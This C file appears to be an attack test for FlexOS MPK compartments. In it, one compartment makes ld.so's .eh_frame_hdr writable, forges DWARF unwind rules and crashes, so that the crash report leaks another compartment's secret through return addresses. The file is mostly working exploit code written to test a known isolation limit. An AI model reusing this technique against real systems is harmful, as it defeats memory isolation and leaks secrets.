/*
 * attack --hdr-forge (limit 12, a limit not closed; found by an attack
 * review): the report's unwinder reads a shared library's unwind table in
 * that library's read-only segment, and the filter's range rules cover
 * the image's segments, not the libraries'. lib1 makes the page of the
 * loader's (ld.so's) .eh_frame_hdr writable and points it (an absolute
 * eh_frame pointer, no search table) at rules of its own in shared
 * memory, which compute each caller's return address as a code address of
 * the loader whose offset carries 16 bits of app's private word (as
 * reportleak.c's did); then it faults with a return address into the
 * loader's code. Before faulting, this prints the offsets the report
 * would show if the word leaks; tests/mpk/vm.sh looks for them in the
 * report (a known limit, TAP TODO). The C library's page is covered by
 * another range's window in the test image (its mprotect is denied), the
 * loader's is not.
 */
#define _GNU_SOURCE 1
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "attacklib.h"
#include "hdrforge.h"

/* hf_go(addr, ra): jumps to hf_fault with ra as its return address; it reads addr. */
__asm__(".text\n"
	".type hf_fault, @function\n"
	"hf_fault:\n"
	"	.cfi_startproc\n"
	"	xorl %ebx, %ebx\n"
	"	movq (%rdi), %rax\n"
	"	ud2\n"
	"	.cfi_endproc\n"
	".size hf_fault, .-hf_fault\n"
	".type hf_go, @function\n"
	"hf_go:\n"
	"	pushq %rsi\n"
	"	jmp hf_fault\n"
	".size hf_go, .-hf_go\n");
void hf_go(uintptr_t addr, uintptr_t ra);

/* lib1's rules and what it knows: shared (lib1 reads it with its PKRU). */
static struct {
	unsigned char eh[512] __attribute__((aligned(8)));
	uintptr_t secret, lo, base, hdr;
} hf FLEXOS_SHARED;

static int loader(struct dl_phdr_info *info, size_t size, void *data)
{
	(void)size, (void)data;
	if (!info->dlpi_name || !strstr(info->dlpi_name, "ld-linux"))
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
		if (ph->p_type == PT_LOAD && (ph->p_flags & PF_X) && !hf.lo) {
			hf.base = info->dlpi_addr;
			hf.lo = info->dlpi_addr + ph->p_vaddr;
		}
		if (ph->p_type == PT_GNU_EH_FRAME)
			hf.hdr = info->dlpi_addr + ph->p_vaddr;
	}
	return 1;
}

static unsigned char *put8(unsigned char *p, uint64_t v)
{
	memcpy(p, &v, 8);
	return p + 8;
}

static unsigned char *put4(unsigned char *p, uint32_t v)
{
	memcpy(p, &v, 4);
	return p + 4;
}

/* An FDE for [lo, hi): rip = lo(text) + 0x10001 + ((*secret >> 16 * rbx) & 0xffff); rbx += 1. */
static unsigned char *fde(unsigned char *p, const unsigned char *cie, uintptr_t lo, uintptr_t hi)
{
	unsigned char *len = p, *elen, *q;

	p = put4(p + 4, (uint32_t)(p + 4 - cie));
	p = put8(p, lo);
	p = put8(p, hi - lo);
	*p++ = 0;               /* augmentation data: none */
	*p++ = 0x16, *p++ = 16; /* DW_CFA_val_expression rip */
	elen = p++, q = p;
	*p++ = 0x0e; /* DW_OP_const8u: the word's address */
	p = put8(p, hf.secret);
	*p++ = 0x06;                           /* DW_OP_deref: app's word */
	*p++ = 0x73, *p++ = 0;                 /* DW_OP_breg3 0: rbx */
	*p++ = 0x34, *p++ = 0x24;              /* DW_OP_lit4, DW_OP_shl */
	*p++ = 0x25;                           /* DW_OP_shr */
	*p++ = 0x0a, *p++ = 0xff, *p++ = 0xff; /* DW_OP_const2u 0xffff */
	*p++ = 0x1a;                           /* DW_OP_and */
	*p++ = 0x0e;                           /* DW_OP_const8u */
	p = put8(p, hf.lo + 0x10001);
	*p++ = 0x22; /* DW_OP_plus */
	*elen = (unsigned char)(p - q);
	*p++ = 0x16, *p++ = 3, *p++ = 2, *p++ = 0x73, *p++ = 1; /* rbx = rbx + 1 */
	while ((p - len) % 8)
		*p++ = 0; /* DW_CFA_nop */
	put4(len, (uint32_t)(p - len - 4));
	return p;
}

/* Run by lib1 (lib1_call: cb(x + 1) + 1); never returns if it can write the header. */
static long forge_in_lib1(long x)
{
	unsigned char *p = hf.eh, *cie = p;
	uintptr_t page = hf.hdr & ~(uintptr_t)4095;

	(void)x;
	p = put4(p + 4, 0); /* a CIE: version 1, "zR", absolute pointers, CFA rsp + 16 */
	*p++ = 1, *p++ = 'z', *p++ = 'R', *p++ = 0, *p++ = 1, *p++ = 0x78, *p++ = 16;
	*p++ = 1, *p++ = 0x00, *p++ = 0x0c, *p++ = 7, *p++ = 16;
	while ((p - cie) % 8)
		*p++ = 0;
	put4(cie, (uint32_t)(p - cie - 4));
	p = fde(p, cie, hf.lo + 0x10000, hf.lo + 0x20002);
	put4(p, 0);
	if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE))
		return -100;
	unsigned char *h = (unsigned char *)hf.hdr;
	uintptr_t eh = (uintptr_t)hf.eh;
	h[1] = 0x00; /* eh_frame_ptr_enc: an absolute pointer */
	h[2] = 0xff; /* fde_count_enc: none, so no search table: a linear search */
	h[3] = 0xff;
	memcpy(h + 4, &eh, 8);
	hf_go(hf.secret, hf.lo + 0x10001);
	return 0;
}

int hdr_forge(uintptr_t app_secret)
{
	long r = 0;
	uint64_t word = *(volatile uint64_t *)app_secret;

	hf.secret = app_secret;
	if (!dl_iterate_phdr(loader, NULL) || !hf.hdr || !hf.lo)
		return 2;
	printf("hdr-forge: app's word %#lx would show in the report as", (unsigned long)word);
	for (int i = 0; i < 4; i++)
		printf(" ld-linux-x86-64.so.2+%#lx",
		       (unsigned long)(hf.lo - hf.base + 0x10001 + ((word >> 16 * i) & 0xffff)));
	printf("\n");
	fflush(stdout);
	flexos_gate_r(lib1, r, lib1_call, forge_in_lib1, 0);
	printf("hdr-forge: lib1 returned %ld (%s)\n", r - 1,
	       r == -99 ? "the loader's unwind table could not be made writable" : "?");
	return r == -99 ? 0 : 1;
}
